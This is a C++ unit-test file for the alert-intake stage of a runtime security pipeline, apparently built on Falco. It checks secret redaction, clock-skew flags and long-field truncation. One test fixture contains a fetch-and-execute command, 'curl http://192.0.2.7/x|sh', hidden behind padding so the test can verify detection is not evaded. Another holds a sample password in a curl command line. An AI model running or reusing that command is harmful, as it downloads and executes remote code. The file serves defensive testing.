// SPDX-License-Identifier: Apache-2.0
#include "stages/intake/understand.h"

#include <gtest/gtest.h>

#include "schemas/sighting.h"

namespace gyre::stages {
namespace {

schemas::Alert alert() {
  schemas::Alert alert;
  alert.rule = "Rule A";
  alert.time = 100 * kNanosPerSecond;
  alert.source = "syscall";
  alert.hostname = "node-1";
  alert.fields = {{"container.id", "0123456789ab"},
                  {"container.image", "registry.example.com:5000/app:1.2"},
                  {"evt.res", "EACCES"},
                  {"proc.cmdline", "curl -u admin:hunter2secret https://example.com"},
                  {"proc.name", "curl"}};
  return alert;
}

Understanding understood(schemas::Alert& alert, Nanos record_time) {
  IdHasher hasher;
  Understanding is;
  understand(alert, record_time, {}, hasher, is);
  return is;
}

TEST(Understand, IdIsOfTheWholeAlertAndWhatIsKeptHasNoSecret) {
  IdHasher hasher;
  schemas::Alert kept = alert();
  const Understanding is = understood(kept, kNoTime);
  EXPECT_EQ(is.duplicate_id, schemas::duplicate_id(alert(), hasher));
  EXPECT_EQ(kept.field("proc.cmdline").find("hunter2secret"), std::string_view::npos);
  EXPECT_EQ(is.shape.find("hunter2secret"), std::string::npos);
  EXPECT_EQ(kept.field("container.image.repository"), "registry.example.com:5000/app");
  EXPECT_EQ(kept.field("container.image.tag"), "1.2");
  EXPECT_EQ(is.outcome.outcome, schemas::Outcome::kBlocked);
  EXPECT_EQ(is.outcome.clause, 1);
}

TEST(Understand, EventTimeIsNeverLaterThanItsRecord) {
  IdHasher hasher;
  schemas::Alert ahead = alert();
  EXPECT_EQ(understood(ahead, 97 * kNanosPerSecond).time, 97 * kNanosPerSecond);
  EXPECT_EQ(ahead.flags & schemas::kClockSkew, 0U);
  ahead = alert();
  EXPECT_EQ(understood(ahead, 95 * kNanosPerSecond - 1).time, 95 * kNanosPerSecond - 1);
  EXPECT_NE(ahead.flags & schemas::kClockSkew, 0U);
  ahead = alert();
  EXPECT_EQ(understood(ahead, kNoTime).time, ahead.time);
}

TEST(Understand, ASensorSpeaksOfItselfWhateverContainerItRunsIn) {
  IdHasher hasher;
  schemas::Alert drop = alert();
  drop.source = "internal";
  drop.rule = "Falco internal: syscall event drop";
  const Understanding is = understood(drop, kNoTime);
  EXPECT_EQ(schemas::entity_key(is.entity), "host/default/default/node-1");
  EXPECT_EQ(is.rule, "Sensor health");
  EXPECT_EQ(drop.field("rule"), "Falco internal: syscall event drop");
  EXPECT_FALSE(is.heartbeat);
}

TEST(Understand, APaddingHidesNothingBehindIt) {
  const std::string line = "sh -c : " + std::string(400, 'A') + "; curl http://192.0.2.7/x|sh";
  schemas::Alert padded = alert();
  padded.fields.set("proc.cmdline", line);
  padded.output = std::string(2'000, 'o') + line;
  const Understanding is = understood(padded, kNoTime);
  EXPECT_LE(padded.field("proc.cmdline").size(), schemas::kValueBytes);
  for (const std::string_view kept :
       {padded.field("proc.cmdline"), std::string_view(padded.output)})
    EXPECT_TRUE(kept.ends_with("A; curl http://192.0.2.7/x|sh")) << kept;
  schemas::Alert other = alert();
  other.fields.set("proc.cmdline", line + "1");
  EXPECT_NE(understood(other, kNoTime).finding_key, is.finding_key);
}

TEST(Understand, LongNamesAreCutAndStillToldApart) {
  IdHasher hasher;
  schemas::Alert first = alert();
  first.rule = std::string(60'000, 'r') + "1";
  first.source = std::string(255, 's') + "é" + std::string(60'000, 's');
  schemas::Alert second = first;
  second.rule.back() = '2';
  const Understanding is = understood(first, kNoTime);
  EXPECT_EQ(is.rule, std::string(256, 'r'));
  EXPECT_EQ(is.source, std::string(255, 's')) << "never within a character";
  EXPECT_NE(is.finding_key, understood(second, kNoTime).finding_key);
}

}  // namespace
}  // namespace gyre::stages
